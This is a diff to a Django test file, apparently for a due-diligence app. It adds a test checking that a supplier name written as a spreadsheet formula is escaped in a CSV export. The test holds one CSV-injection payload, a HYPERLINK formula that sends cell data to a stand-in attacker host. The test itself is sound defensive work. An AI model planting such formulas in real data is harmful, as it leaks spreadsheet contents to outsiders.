@@ -13,7 +13,7 @@ from doorstep.members.services.pii import reveal_pii
 from doorstep.organizations import services as org_services
 from doorstep.organizations.models import SharingAgreement
 from doorstep.supplychains import services
-from doorstep.supplychains.models import Commitment
+from doorstep.supplychains.models import Commitment, Party
 
 pytestmark = pytest.mark.django_db
 
@@ -222,3 +222,14 @@ def test_another_organization_cannot_see_or_track_union_as_commitments(world, sh
     assert login(world.admin_b).get(f"/orgs/coop-b/due-diligence/{world.company.pk}/").status_code == 404
     commitment.refresh_from_db()
     assert commitment.status == "open"
+
+
+def test_a_work_giver_renamed_as_a_formula_reaches_the_csv_as_text(world, shared, login):
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Pay")'
+    supplier = Party.objects.get(organization=world.org_a, name="Star Exports")
+    services.update_party(supplier, data={"name": hostile}, actor=world.admin_a)
+    client = login(world.company_user)
+    response = client.get("/orgs/brand-c/due-diligence/", {"format": "csv", "from": "2026-01-01"})
+    lines = list(csv.reader(io.StringIO(response.content.decode())))
+    assert any(line[:2] == ["'" + hostile, "15"] for line in lines)
+    assert not any(cell.startswith("=") for line in lines for cell in line)
